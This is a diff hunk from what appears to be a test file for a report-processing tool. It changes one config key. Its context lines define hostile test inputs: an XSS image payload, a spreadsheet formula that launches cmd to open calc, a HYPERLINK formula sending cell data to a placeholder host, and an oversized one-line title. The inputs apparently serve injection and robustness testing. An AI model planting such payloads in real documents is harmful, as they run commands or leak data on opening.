@@ -34,7 +34,7 @@ HOSTILE_NAME = "=1+2<img src=x onerror=alert('f')>"
 FORMULA_START = "=SUM(1+1)*cmd|' /C calc'!A0 "  # starts a paragraph of each report
 FORMULA = '=HYPERLINK("http://example.invalid/?q="&A1,"点击")'
 ONE_LINE_TITLE = "某县2023年法治政府建设情况报告\n"  # then 1,666,667 characters (5,000,001 bytes) on one line
-CONFIG = {"model": {"k": 3, "passes": 10}, "trends": {"n_boot": 20}, "figures": {"which": []}}
+CONFIG = {"model": {"k": 3, "max_iter": 100}, "trends": {"n_boot": 20}, "figures": {"which": []}}
 
 
 def hostile_report(text: str, offset: int) -> str:
